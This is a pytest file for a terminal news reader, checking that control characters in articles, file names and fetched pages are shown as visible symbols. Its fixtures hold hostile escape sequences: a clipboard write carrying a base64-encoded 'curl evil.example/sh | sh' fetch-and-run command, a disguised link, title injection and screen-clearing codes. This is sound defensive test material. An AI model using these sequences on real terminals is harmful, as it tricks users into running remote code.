"""No control character of an article reaches what is shown: each one is made visible."""

from __future__ import annotations

from pathlib import Path

import pytest

from briefing_tui.errors import InputError
from briefing_tui.model import Article
from briefing_tui.reading import article_from_bytes, article_from_text, load_article
from briefing_tui.terminal_text import has_controls

HOSTILE_LINE = (
    "Copy this \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07 now."
    " Title \x1b]0;pwned\x07 here."
    " A \x1b]8;;https://evil.example/\x1b\\disguised link\x1b]8;;\x1b\\ there."
    " Clear \x1b[2J\x1b[?1049l and \x9b31m red, bare \x1b, bell \x07, nul \x00, del \x7f."
)
#: A plain-text article with the sequences in its title, byline and body.
HOSTILE_ARTICLE = (
    "Mayor \x1b]0;pwned\x07 closes bridge\n"
    "By Jane \x1b[2JDoe\n"
    "The council voted on Tuesday to close the bridge, the mayor said.\n"
    f"{HOSTILE_LINE}\n"
)


def shown_fields(article: Article) -> list[str]:
    """Everything the app and the Markdown show of an article (source aside)."""
    fields = [article.title, article.byline, article.dateline, article.outlet, article.date]
    return [field for field in fields if field]


def assert_safe(article: Article) -> None:
    assert not has_controls(article.text), repr(article.text)
    for field in shown_fields(article):
        assert not has_controls(field, lines=False), repr(field)


def test_text_article_keeps_its_length_with_controls_made_visible() -> None:
    article = article_from_text(HOSTILE_ARTICLE, "hostile.txt")
    assert_safe(article)
    assert len(article.text) == len(HOSTILE_ARTICLE)  # one visible character for one
    assert article.title == "Mayor ␛]0;pwned␇ closes bridge"
    assert "␛]52;c;" in article.text and "␀" in article.text and "\ufffd31m" in article.text
    for span in article.paragraphs:
        assert article.text[span.start : span.end].strip()


def test_file_with_escapes(tmp_path: Path) -> None:
    path = tmp_path / "hostile.txt"
    path.write_bytes(HOSTILE_ARTICLE.replace("\x00", "").encode("utf-8"))  # NUL: binary
    assert_safe(load_article(str(path)))


def test_markdown_with_escapes(tmp_path: Path) -> None:
    path = tmp_path / "hostile.md"
    line = HOSTILE_LINE.replace("\x00", "")  # NUL: a binary file
    path.write_text(f"# Mayor \x1b]0;t\x07 closes bridge\n\n*{line}*\n", encoding="utf-8")
    assert_safe(load_article(str(path)))


def test_html_page_with_escapes() -> None:
    paragraph = f"<p>{HOSTILE_LINE} The council voted to close the bridge, the mayor said.</p>"
    page = (
        "<html><head><title>Bridge \x1b]0;pwned\x07 closes</title>"
        '<meta name="author" content="Jane \x1b[2J Doe"></head>'
        f"<body><article><h1>Bridge closes</h1>{paragraph * 4}</article></body></html>"
    )
    assert_safe(article_from_bytes(page.encode("utf-8"), "https://example.test/a", html=True))


def test_error_message_shows_an_escape_in_a_file_name(tmp_path: Path) -> None:
    with pytest.raises(InputError) as caught:
        load_article(str(tmp_path / "evil\x1b]0;pwned\x07.txt"))
    assert not has_controls(str(caught.value), lines=False)
    assert "evil␛]0;pwned␇.txt: no such file" in str(caught.value)


def test_web_page_with_escapes() -> None:
    from .local_server import serving

    body = HOSTILE_ARTICLE.replace("\x00", "").encode("utf-8")  # NUL: binary
    with serving({"/story.txt": (200, "text/plain; charset=utf-8", body)}) as base:
        article = load_article(f"{base}/story.txt", timeout=10)
    assert_safe(article)
    assert "␛]52;c;" in article.text
